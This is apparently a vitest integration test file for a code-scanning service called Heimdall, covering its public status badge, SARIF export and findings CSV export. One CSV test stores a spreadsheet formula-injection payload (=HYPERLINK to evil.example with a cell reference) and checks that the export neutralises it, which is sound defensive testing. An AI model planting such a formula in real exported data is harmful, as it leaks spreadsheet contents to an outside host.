// Sharing against real PostgreSQL: the public status badge, the SARIF export of a snapshot and the CSV export of the
// findings list.
import { describe, expect, inject, it } from "vitest";
import { analyzeRepository, formatSarif } from "@/analyzers";
import type { ApiErrorBody, FindingsPageDto } from "@/app/_lib/dto";
import { GET as badgeRoute } from "@/app/api/repositories/[id]/badge.svg/route";
import { GET as findingsCsvRoute } from "@/app/api/repositories/[id]/findings.csv/route";
import { GET as findingsRoute } from "@/app/api/repositories/[id]/findings/route";
import { GET as sarifRoute } from "@/app/api/scans/[id]/sarif/route";
import { issueApiToken } from "@/app/_server/auth/api-tokens";
import { getDb } from "@/app/_server/db";
import { call } from "../helpers/api";
import { createFixtureRepo } from "../helpers/git-fixture";
import { registerRepo, scanAndWait, useScanWorkers } from "../helpers/scans";
import { commitId, storeSnapshot, teamWithRepository, type StoredFinding } from "../helpers/stored-snapshot";

useScanWorkers();

const T0 = new Date("2026-10-01T12:00:00Z");
const at = (days: number) => new Date(T0.getTime() + days * 86_400_000);

interface SarifLog {
  version: string;
  runs: Array<{
    tool: { driver: { name: string; rules: Array<{ id: string }> } };
    results: Array<{ ruleId: string; ruleIndex: number; level: string; message: { text: string }; locations: unknown[]; partialFingerprints: Record<string, string>; suppressions?: unknown[] }>;
    properties: { score: number | null; grade: string | null };
  }>;
}

async function badge(id: string, as: "anonymous" | "admin" = "anonymous") {
  return call<string>(badgeRoute, { params: { id }, as });
}

async function csv(repositoryId: string, query = "", as?: { bearer: string }) {
  return call<string & ApiErrorBody>(findingsCsvRoute, { params: { id: repositoryId }, url: `http://heimdall.test/api/repositories/${repositoryId}/findings.csv${query}`, ...(as ? { as } : {}) });
}

/** CSV records as arrays of fields (a small RFC 4180 reader, enough for what the export writes). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = "";
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index];
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') (field += '"'), (index += 1);
      else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ",") record.push(field), (field = "");
    else if (char === "\r" && text[index + 1] === "\n") record.push(field), records.push(record), (record = []), (field = ""), (index += 1);
    else field += char;
  }
  return records;
}

describe("the status badge", () => {
  it("shows score and grade of a public repository to anyone, coloured by grade and cached for 5 minutes", async () => {
    const { repository } = await teamWithRepository("payments");
    await getDb().repository.update({ where: { id: repository.id }, data: { public: true } });
    const unscanned = await badge(repository.id);
    expect(unscanned.status).toBe(200);
    expect(unscanned.body).toContain(">not scanned</text>");

    await storeSnapshot(repository.id, { commitSha: commitId("one"), committedAt: at(0), score: 87.2, grade: "B" });
    await storeSnapshot(repository.id, { commitSha: commitId("two"), committedAt: at(1), score: 93.04, grade: "A" });
    const shown = await badge(repository.id);
    expect(shown.status).toBe(200);
    expect(shown.headers.get("content-type")).toBe("image/svg+xml; charset=utf-8");
    expect(shown.headers.get("cache-control")).toBe("public, max-age=300");
    expect(shown.body).toMatch(/^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"/);
    expect(shown.body).toContain('aria-label="heimdall: 93.0 A"');
    expect(shown.body).toContain(">heimdall</text>");
    expect(shown.body).toContain(">93.0 A</text>");
    expect(shown.body).toContain('fill="#4c1"');
  });

  it("gives a private repository and an unknown id the very same 404, whoever asks", async () => {
    const { repository } = await teamWithRepository("payments");
    await storeSnapshot(repository.id, { commitSha: commitId("one"), committedAt: at(0), score: 60 });
    const hidden = await badge(repository.id, "admin");
    const missing = await badge("cnosuchrepository000000000");
    expect(hidden.status).toBe(404);
    expect(missing.status).toBe(404);
    expect(hidden.body).toBe(missing.body);
    expect(hidden.body).toContain(">not found</text>");
    expect([...hidden.headers.entries()]).toEqual([...missing.headers.entries()]);
    expect(hidden.body).not.toContain("60");
  });
});

describe("the SARIF export", () => {
  const findings: StoredFinding[] = [
    { fingerprint: "f-error", severity: "error", ruleId: "injection", file: "src/db.ts", line: 12, message: "SQL built from strings." },
    { fingerprint: "f-warning", severity: "warning", ruleId: "function-size", file: "src/app.ts", line: 3 },
    { fingerprint: "f-suppressed", severity: "info", ruleId: "naming", file: "src/app.ts", line: 9, suppressed: true },
  ];

  it("downloads a snapshot's findings as SARIF 2.1.0, suppressed ones with their justification; a duplicate scan exports its snapshot", async () => {
    const { repository } = await teamWithRepository("payments", "billing api");
    const scanId = await storeSnapshot(repository.id, { commitSha: commitId("one"), committedAt: at(0), score: 75, grade: "C", findings });
    const { status, body, headers } = await call<SarifLog>(sarifRoute, { params: { id: scanId } });
    expect(status).toBe(200);
    expect(headers.get("content-type")).toBe("application/sarif+json; charset=utf-8");
    expect(headers.get("content-disposition")).toBe(`attachment; filename="heimdall-billing-api-${commitId("one").slice(0, 12)}.sarif"`);
    expect(body.version).toBe("2.1.0");
    const [run] = body.runs;
    expect(run?.tool.driver.name).toBe("Heimdall");
    expect(run?.properties).toMatchObject({ score: 75, grade: "C" });
    expect(run?.results.map((result) => [result.ruleId, result.level, result.partialFingerprints["heimdall/v1"]])).toEqual([
      ["function-size", "warning", "f-warning"],
      ["naming", "note", "f-suppressed"],
      ["injection", "error", "f-error"],
    ]);
    for (const result of run?.results ?? []) expect(run?.tool.driver.rules[result.ruleIndex]?.id).toBe(result.ruleId);
    expect(run?.results[1]?.suppressions).toEqual([{ kind: "inSource", justification: "accepted risk" }]);
    expect(run?.results[2]?.locations).toEqual([{ physicalLocation: { artifactLocation: { uri: "src/db.ts", uriBaseId: "%SRCROOT%" }, region: { startLine: 12, endLine: 12 } } }]);

    const duplicate = await getDb().scan.create({ data: { repositoryId: repository.id, status: "succeeded", duplicateOfId: scanId, commitSha: commitId("one"), finishedAt: new Date() } });
    const again = await call<SarifLog>(sarifRoute, { params: { id: duplicate.id } });
    expect(again.body.runs[0]?.results).toHaveLength(3);
  });

  it("is code: a token of the team with scope read gets it, one with scope gate does not; a scan without a snapshot is a 409", async () => {
    const { team, repository } = await teamWithRepository("payments");
    const scanId = await storeSnapshot(repository.id, { commitSha: commitId("one"), committedAt: at(0), score: 75, findings });
    const reader = await issueApiToken({ name: "reader", teamId: team.id, admin: false, scopes: ["read"], createdBy: "cli" });
    const gate = await issueApiToken({ name: "gate", teamId: team.id, admin: false, scopes: ["gate", "scan"], createdBy: "cli" });
    expect((await call(sarifRoute, { params: { id: scanId }, as: { bearer: reader.token } })).status).toBe(200);
    expect((await call(sarifRoute, { params: { id: scanId }, as: { bearer: gate.token } })).status).toBe(403);
    expect((await call(sarifRoute, { params: { id: scanId }, as: "anonymous" })).status).toBe(401);
    const queued = await getDb().scan.create({ data: { repositoryId: repository.id } });
    expect(await call(sarifRoute, { params: { id: queued.id } })).toMatchObject({ status: 409, body: { error: { code: "conflict", message: expect.stringMatching(/it is queued/) } } });
    expect((await call(sarifRoute, { params: { id: "cnosuchscan" } })).status).toBe(404);
  });

  it("holds the same results as the CLI's SARIF of the same commit", async () => {
    const repo = createFixtureRepo(inject("repoRoot"), "sample");
    const registered = await registerRepo(repo);
    const scan = await scanAndWait(registered.id);
    expect(scan.status).toBe("succeeded");
    const exported = await call<SarifLog>(sarifRoute, { params: { id: scan.id } });
    const cli = JSON.parse(formatSarif(await analyzeRepository(repo))) as SarifLog;
    const byFingerprint = (log: SarifLog) => [...(log.runs[0]?.results ?? [])].sort((a, b) => (a.partialFingerprints["heimdall/v1"] ?? "").localeCompare(b.partialFingerprints["heimdall/v1"] ?? ""));
    expect(byFingerprint(exported.body).length).toBeGreaterThan(5);
    expect(byFingerprint(exported.body)).toEqual(byFingerprint(cli));
    expect(exported.body.runs[0]?.tool.driver.rules).toEqual(cli.runs[0]?.tool.driver.rules);
  });
});

describe("the findings CSV", () => {
  it("holds every finding the list selects, with the list's filters, across all its pages", async () => {
    const { repository } = await teamWithRepository("payments", "billing");
    const many: StoredFinding[] = Array.from({ length: 230 }, (_, index) => ({ fingerprint: `w${index}`, severity: "warning", file: `src/f${String(index).padStart(3, "0")}.ts`, line: index + 1 }));
    await storeSnapshot(repository.id, { commitSha: commitId("one"), committedAt: at(0), score: 70, findings: [{ fingerprint: "old", severity: "error" }] });
    await storeSnapshot(repository.id, {
      commitSha: commitId("two"),
      committedAt: at(1),
      score: 60,
      findings: [
        ...many,
        { fingerprint: "old", severity: "error" },
        { fingerprint: "formula", severity: "error", ruleId: "injection", file: "src/x.ts", line: 2, message: '=HYPERLINK("http://evil.example/?"&A1,"click"), then "quoted"\nnext line' },
      ],
    });

    const all = await csv(repository.id);
    expect(all.status).toBe(200);
    expect(all.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(all.headers.get("content-disposition")).toBe(`attachment; filename="heimdall-billing-${commitId("two").slice(0, 12)}-findings.csv"`);
    expect(all.headers.get("x-heimdall-rows")).toBe("232");
    expect(all.headers.get("x-heimdall-truncated")).toBe("false");
    const records = parseCsv(all.body);
    expect(records[0]).toEqual(["severity", "rule", "guide tags", "section", "file", "line", "end line", "message", "change", "suppressed", "suppression reason", "fingerprint"]);
    expect(records).toHaveLength(233);
    // Sorted as the list sorts by default: errors first.
    expect(records.slice(1, 3).map((record) => record[11]).sort()).toEqual(["formula", "old"]);
    const formula = records.find((record) => record[11] === "formula");
    expect(formula?.[7]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click"), then "quoted"\nnext line`);
    expect(formula?.[8]).toBe("new");
    expect(records.find((record) => record[11] === "old")?.[8]).toBe("unchanged");

    // The same selection as the list: the first page of errors that are new, and its total.
    const query = "?severity=error&change=new";
    const page = await call<FindingsPageDto>(findingsRoute, { params: { id: repository.id }, url: `http://heimdall.test/api/repositories/${repository.id}/findings${query}&pageSize=1` });
    const filtered = parseCsv((await csv(repository.id, query)).body);
    expect(filtered.slice(1).map((record) => record[11])).toEqual(page.body.items.map((item) => item.fingerprint));
    expect(filtered).toHaveLength(page.body.total + 1);

    const byFile = parseCsv((await csv(repository.id, "?sort=file&order=desc&path=src/f")).body);
    expect(byFile).toHaveLength(231);
    expect(byFile[1]?.[4]).toBe("src/f229.ts");
  });

  it("answers the list's errors: a bad filter 400, no snapshot or unknown repository 404, a token without scope read 403", async () => {
    const { team, repository } = await teamWithRepository("payments");
    expect((await csv(repository.id)).status).toBe(404);
    await storeSnapshot(repository.id, { commitSha: commitId("one"), committedAt: at(0), score: 70 });
    expect((await csv(repository.id)).status).toBe(200);
    expect((await csv(repository.id, "?severity=fatal")).status).toBe(400);
    expect((await csv("cnosuchrepository")).status).toBe(404);
    const gate = await issueApiToken({ name: "gate", teamId: team.id, admin: false, scopes: ["gate"], createdBy: "cli" });
    expect((await csv(repository.id, "", { bearer: gate.token })).status).toBe(403);
  });

  it("stops at 50,000 rows and says so", async () => {
    const { repository } = await teamWithRepository("payments");
    const findings: StoredFinding[] = Array.from({ length: 50_001 }, (_, index) => ({ fingerprint: `f${index}`, severity: "info", line: index + 1 }));
    await storeSnapshot(repository.id, { commitSha: commitId("big"), committedAt: at(0), score: 10, findings });
    const capped = await csv(repository.id);
    expect(capped.headers.get("x-heimdall-truncated")).toBe("true");
    expect(capped.headers.get("x-heimdall-rows")).toBe("50000");
    expect(parseCsv(capped.body)).toHaveLength(50_001);
  }, 60_000);
});
